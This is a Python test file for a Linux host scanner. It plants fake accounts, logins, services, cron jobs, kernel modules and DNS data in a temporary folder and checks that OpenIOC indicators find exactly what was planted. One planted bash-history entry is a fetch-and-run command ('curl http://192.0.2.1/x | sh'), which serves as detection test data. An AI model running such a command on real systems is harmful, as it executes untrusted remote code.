"""Does a whole scan find what is planted for each term of every document but files, processes and ports?

That collectors tell the truth is tested beside each of them. Here, an indicator of its own is written for every term,
and all of them go the whole way: reader, collectors, wire, worker, judge.
"""

import json
import math
from collections import defaultdict
from collections.abc import Mapping, Sequence
from datetime import UTC, datetime
from pathlib import Path
from tempfile import TemporaryDirectory

import pytest

from stanch.agent.host.autoruns import LinuxAutoruns
from stanch.agent.host.items import Parts as ItemParts
from stanch.agent.host.items import collectors
from stanch.agent.host.items_dns import MONITOR
from stanch.agent.host.scanner import LinuxScanner
from stanch.agent.host.scanner_parts import Parts, Scans
from stanch.core.content import ContentKind
from stanch.core.ioc.items import Item, Kind, Value
from stanch.core.ioc.terms import DOCUMENTS
from stanch.core.scanning import Engine, Finding, Material, Scan, Tally
from tests.agent.host import test_items_accounts as accounts
from tests.agent.host import test_items_devices as devices
from tests.agent.host import test_items_dns as dns
from tests.agent.host import test_items_services as services
from tests.agent.host import test_items_system as system
from tests.agent.host.autorun_root import Root
from tests.agent.host.items_world import collect
from tests.agent.host.scanner_bench import material, run
from tests.agent.host.test_items_history import packed
from tests.core.ioc.openioc_files import file_11, group, term, written
from tests.netns import netns, wire

ELSEWHERE = frozenset({"FileItem", "ProcessItem", "PortItem"})
"""Planted by `scan_finds_planted`."""
KERNEL = ("ArpEntryItem", "RouteEntryItem", "SystemInfoItem")
"""Not below a folder, or not all of it."""
FILES = tuple(sorted(DOCUMENTS.keys() - ELSEWHERE - set(KERNEL)))
MOVES = frozenset({"DnsEntryItem/TimeToLive", "VolumeItem/FreeSize", "VolumeItem/TotalSize"})
"""Numbers that change between two looks."""
ROUGH = 1000
"""Seconds by which times may differ between two looks."""


def plant_people(root: Root) -> None:
    """Accounts, groups, logins, histories."""
    for name in ("passwd", "shadow", "group"):
        root.write(f"/etc/{name}", getattr(accounts, name.upper()))
    with root.write("/var/log/lastlog").open("r+b") as file:
        file.seek(1000 * accounts.lastlog_size())
        stamp = (1_700_000_000).to_bytes(8 if accounts.lastlog_size() > 292 else 4, "little")
        file.write(stamp.ljust(accounts.lastlog_size(), b"\0"))
    login = packed(7, line="pts/0", user="alice", host="h", time=100, pid=42, address=bytes((192, 0, 2, 1)))
    root.write("/var/log/wtmp", login + packed(8, line="pts/0", time=7160, pid=42))
    root.write("/var/log/btmp", packed(6, line="ssh:notty", user="root", host="2001:db8::1", time=200_000, pid=43))
    root.write("/root/.bash_history", "#1700000000\ncurl http://192.0.2.1/x | sh\nls\n")
    root.write("/home/alice/.zsh_history", ": 1600000000:0;id\n")


def plant_starts(root: Root) -> None:
    """Units, timers, jobs of cron, anacron and at."""
    for name in ("/bin/sh", "/usr/bin/before", "/opt/thing.sh", "/usr/bin/job", "/etc/init.d/old"):
        root.program(name, f"#!{name}\n")
    root.write("/etc/systemd/system/odd.service", services.SERVICE)
    root.write("/etc/systemd/system/even.service", "[Service]\nExecStart=/usr/bin/before\n")
    root.link("/etc/systemd/system/multi-user.target.wants/odd.service", "../odd.service")
    root.write("/sys/fs/cgroup/system.slice/odd.service/cgroup.procs", "42\n")
    root.write("/proc/42/cgroup", "0::/system.slice/odd.service\n")
    root.write("/etc/systemd/system/odd.timer", services.TIMER)
    root.write("/var/lib/systemd/timers/stamp-odd.timer")
    root.write("/etc/crontab", "*/5 1 2 3 4 alice /usr/bin/job -x >/dev/null\n@reboot root /usr/bin/before\n")
    root.write("/etc/anacrontab", "7 25 cron.odd nice /usr/bin/job\n")
    root.write("/etc/cron.daily/not.run", mode=0o644)
    root.write("/var/spool/cron/atjobs/a0002301b71f40", "#!/bin/sh\n# atrun uid=1000 gid=1000\n/usr/bin/job -z\n")


def plant_devices(root: Root) -> None:
    """Modules, disks, volumes."""
    root.write("/proc/sys/kernel/osrelease", "6.1.0\n")
    root.write("/proc/modules", "dash_ed 16384 2 one,two, Live 0xffffffffc0123000 (OE)\nplain 100 0 - Loading 0x0\n")
    root.write(f"{devices.FOLDER}/modules.dep", "kernel/x/dash-ed.ko:\n")
    root.write(f"{devices.FOLDER}/kernel/x/dash-ed.ko", devices.EVIL)
    root.write("/sys/module/dash_ed/srcversion", "S1\n")
    root.write("/sys/module/dash_ed/parameters/debug", "1\n")
    folder = devices.disk(root, "sda", "pci0/usb1/host0", size="1000", removable="1", queue__rotational="0", dev="8:0")
    devices.disk(root, "nvme0n1", "pci0/nvme/nvme0", size="8", removable="0")
    for name, value in {"partition": 1, "start": 8, "size": 100, "dev": "8:1"}.items():
        root.write(f"{folder}/sda1/{name}", f"{value}\n")
    root.write("/run/udev/data/b8:1", "E:ID_PART_ENTRY_TYPE=0x81\nE:ID_FS_LABEL=root\nE:ID_FS_UUID=1-2\n")
    root.write("/proc/self/mountinfo", devices.MOUNTS)
    root.write("/sys/dev/block/removable", "1\n")
    root.at("/sys/dev/block/8:1").mkdir()


def plant_system(root: Root) -> None:
    """What the machine says of itself, as far as it says so in files."""
    root.write("/etc/os-release", system.RELEASE)
    root.write("/etc/machine-id", "0" * 32)
    root.write("/etc/resolv.conf", "search corp.example\n")
    root.write("/proc/cpuinfo", system.CPU)
    root.write("/proc/meminfo", system.MEMORY)
    for name in ("date", "version"):
        root.write(f"/sys/class/dmi/id/bios_{name}", f"a {name}\n")
    root.write("/var/lib/dhcp/dhclient.eth0.leases", system.DHCLIENT)
    root.write("/run/utmp", system.UTMP)
    zone = Path("/usr/share/zoneinfo/Europe/Berlin")
    if zone.exists():
        root.write("/usr/share/zoneinfo/Europe/Berlin", zone.read_bytes())
        root.link("/etc/localtime", "/usr/share/zoneinfo/Europe/Berlin")


@pytest.fixture
def root():
    """A machine that has something of everything, in a folder of so short a name that a socket fits below it."""
    with TemporaryDirectory() as folder:
        made = Root(Path(folder))
        for plant in (plant_people, plant_starts, plant_devices):
            plant(made)
        made.write("/etc/hosts", dns.HOSTS)
        yield made


def parts_of(root: Root) -> ItemParts:
    return ItemParts(root=root.folder, proc=root.folder / "proc", sys=root.folder / "sys")


# --- indicators of what was planted ----------------------------------------------------------------------------------


def content_of(name: str, kind: Kind, value: Value) -> str:
    """What an indicator asks for, so that it fits this value."""
    if name in MOVES:
        return "1 TO *"
    if kind is Kind.DATE:
        return " TO ".join(datetime.fromtimestamp(float(value) + by, UTC).isoformat() for by in (-ROUGH, ROUGH))
    if kind is Kind.DURATION:
        return f"{float(value) - ROUGH} TO {float(value) + ROUGH}"
    return str(value).lower() if kind is Kind.BOOL else str(value)


def is_fit(name: str, kind: Kind, value: Value, one: Value) -> bool:
    """Is one value like another, as far as an indicator is to tell?"""
    if name in MOVES:
        return float(one) >= 1
    if kind in {Kind.DATE, Kind.DURATION}:
        return abs(float(one) - float(value)) <= ROUGH
    return str(one).casefold() == str(value).casefold()


def rarest(items: Sequence[Item], path: str) -> tuple[Value, ...]:
    """The value that the fewest items have; none if nobody has one."""
    counted = defaultdict[Value, int](int)
    for one in items:
        for value in {value for value in one.values.get(path, ()) if not is_nan(value)}:
            counted[value] += 1
    return tuple(sorted(counted, key=lambda value: (counted[value], str(value)))[:1])


def is_nan(value: Value) -> bool:
    return isinstance(value, float) and math.isnan(value)


Cases = dict[str, tuple[str, frozenset[str]]]
"""Term to what is asked, and the names of what has it."""


def cases_of(document: str, items: Sequence[Item]) -> Cases:
    """One for each term that has a value."""
    cases: Cases = {}
    for path, supported in DOCUMENTS[document].items():
        name, kind = f"{document}/{path}", supported.kind
        for value in rarest(items, path):
            has = [one for one in items if any(is_fit(name, kind, value, v) for v in one.values.get(path, ()))]
            cases[name] = (content_of(name, kind, value), frozenset(one.name for one in has))
    return cases


def asking(name: str, content: str) -> Material:
    """An indicator of one term."""
    document, _, path = name.partition("/")
    kind = DOCUMENTS[document][path].kind.value
    logic = written(group("OR", term(id=name, document=document, path=path, content=content, type=kind)))
    return material(file_11(logic, key=name), kind=ContentKind.OPENIOC, name=f"{path.replace('/', '-')}.ioc")


async def scanned(parts: ItemParts, cases: Cases) -> dict[str, frozenset[str]]:
    """What a scan with all these indicators finds, by term."""
    scanner = LinuxScanner(
        task="tsk_1", scans=Scans(), parts=Parts(collectors=collectors(parts), autoruns=LinuxAutoruns)
    )
    materials = tuple(asking(name, content) for name, (content, _has) in cases.items())
    told = await run(scanner, Scan(materials=materials, engines=frozenset({Engine.IOC})))
    found = defaultdict[str, set[str]](set)
    for one in told:
        if isinstance(one, Finding):
            found[one.rule] |= {thing.name for thing in one.objects}
    (tally,) = [one for one in told if isinstance(one, Tally)]
    assert tally.complete
    return {name: frozenset(some) for name, some in found.items()}


def check_terms(document: str, items: Sequence[Item], cases: Cases, *, without: frozenset[str] = frozenset()) -> None:
    """Every term has a value somewhere, and there are decoys."""
    assert DOCUMENTS[document].keys() - {name.partition("/")[2] for name in cases} <= without
    assert len(items) == 1 or any(len(has) < len(items) for _content, has in cases.values())


# --- tests -----------------------------------------------------------------------------------------------------------


@pytest.mark.parametrize("document", [one for one in FILES if one != "DnsEntryItem"])
async def test_each_term_finds_what_has_it_and_nothing_else(root, document):
    """Every term of a document is found by an indicator of its own, among decoys."""
    items = await collect(document, parts=parts_of(root))
    cases = cases_of(document, items)
    check_terms(document, items, cases)
    assert await scanned(parts_of(root), cases) == {name: has for name, (_content, has) in cases.items()}


async def test_names_are_found_in_hosts_and_cache(root):
    """Likewise of DnsEntryItem; systemd-resolved is asked twice."""
    answer = json.dumps(dns.DUMP).encode() + b"\0"
    with dns.resolved(root.folder, answer):
        items = await collect("DnsEntryItem", parts=parts_of(root))
    (root.folder / MONITOR).unlink()
    cases = cases_of("DnsEntryItem", items)
    check_terms("DnsEntryItem", items, cases)
    (root.folder / MONITOR).parent.rmdir()
    with dns.resolved(root.folder, answer):
        found = await scanned(parts_of(root), cases)
    assert found == {name: has for name, (_content, has) in cases.items()}


@pytest.mark.root
def test_what_the_kernel_says_is_found(root):
    """Likewise of neighbours, routes and the machine itself, in a network of its own."""
    plant_system(root)
    with netns() as left, netns() as right:
        made = wire(left, right, 9)
        left.command(f"ip neigh replace 10.77.9.9 lladdr 02:ab:cd:00:00:09 nud permanent dev {made.device}")
        left.command(f"ip neigh replace fd77:9::9 lladdr 02:ab:cd:00:00:06 nud permanent router dev {made.device}")
        left.command(f"ip route add 198.51.100.0/24 via {made.right4} dev {made.device} metric 77 mtu 1300")
        left.command(f"ip route add default via {made.right4} dev {made.device} metric 10")
        left.command(f"ip -6 route add default via {made.right6} dev {made.device} metric 20")
        cases: Cases = {}
        for document in KERNEL:
            items = left.run(lambda document=document: collect(document, parts=parts_of(root)))
            more = cases_of(document, items)
            no_zone = frozenset({"timezoneDST"}) if not root.at("/etc/localtime").is_symlink() else frozenset[str]()
            check_terms(document, items, more, without=no_zone if document == "SystemInfoItem" else frozenset())
            cases |= more
        found = left.run(lambda: scanned(parts_of(root), cases))
    assert without_groups(found) == without_groups({name: has for name, (_content, has) in cases.items()})


def without_groups(found: Mapping[str, frozenset[str]]) -> dict[str, frozenset[str]]:
    """The kernel tells routers of groups of IPv6 when it likes, and then knows those as neighbours."""
    others = {name: frozenset(one for one in has if not one.startswith("ff02::")) for name, has in found.items()}
    return {name: has for name, has in others.items() if has}
